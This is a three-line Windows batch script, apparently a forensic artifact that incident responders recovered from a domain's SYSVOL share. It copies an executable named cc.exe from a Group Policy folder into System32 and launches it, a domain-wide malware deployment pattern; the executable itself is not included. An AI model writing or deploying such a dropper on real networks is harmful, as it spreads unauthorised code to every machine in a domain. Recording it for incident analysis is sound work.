@echo off
rem Found in SYSVOL by the responders. The program it names is not here.
copy /y \\moi.rivenia.example\SysVol\moi.rivenia.example\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\cc.exe %SystemRoot%\System32\cc.exe
start "" %SystemRoot%\System32\cc.exe
